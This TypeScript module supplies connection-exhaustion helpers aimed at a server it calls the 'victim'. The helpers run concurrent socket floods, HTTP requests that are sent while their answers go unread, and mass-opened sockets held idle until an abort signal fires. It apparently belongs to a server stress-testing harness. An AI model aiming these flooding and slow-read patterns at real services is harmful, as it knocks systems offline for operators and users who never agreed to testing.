/** How an attacker comes to a server: with how many sockets, whether it reads what it is answered, and until when. */
import type { Socket } from 'node:net';
import type { WebSocket } from 'ws';
import { flood, tcp } from './raw.ts';
import type { Victim } from './raw.ts';

/** Several at a time, and one more whenever one has ended, until it is over. */
export async function many(
  count: number,
  victim: Victim,
  one: (nth: number) => Promise<void>,
): Promise<void> {
  const worker = async (nth: number): Promise<void> => {
    while (!victim.signal.aborted) {
      await one(nth);
      await new Promise((resolve) => setImmediate(resolve));
    }
  };
  await Promise.all(Array.from({ length: count }, (_, nth) => worker(nth)));
}

/** Several sockets that say what is made for each of them for as long as it is taken. */
export function flooding<Kind extends Socket | WebSocket>(
  count: number,
  open: (victim: Victim) => Promise<Kind | null>,
  victim: Victim,
  begin: (socket: Kind, nth: number) => () => Buffer | string,
): Promise<void> {
  return many(count, victim, async (nth) => {
    const socket = await open(victim);
    if (socket !== null) await flood(socket, begin(socket, nth), victim);
  });
}

/** The same over HTTP by someone who reads no answer, and keeps the connection when it is not read any more either. */
export function unread(victim: Victim, make: () => string): Promise<void> {
  return many(60, victim, async () => {
    const socket = await tcp(victim);
    if (socket === null) return;
    socket.pause();
    await flood(socket, make, victim);
    await closed(socket, victim);
  });
}

/** The same by someone who reads all of them. */
export function greedy(victim: Victim, make: () => string): Promise<void> {
  return flooding(20, tcp, victim, (socket) => {
    socket.resume();
    return make;
  });
}

/** Opens them and leaves them as they are. */
export async function hold(count: number, victim: Victim, speak: (socket: Socket) => void): Promise<void> {
  for (let nth = 0; nth < count && !victim.signal.aborted; nth++) {
    const socket = await tcp(victim);
    if (socket !== null) speak(socket);
  }
  await over(victim);
}

function over({ signal }: Victim): Promise<void> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve());
  });
}

export function closed(socket: Socket, victim: Victim): Promise<void> {
  return Promise.race([over(victim), new Promise<void>((resolve) => socket.once('close', () => resolve()))]);
}
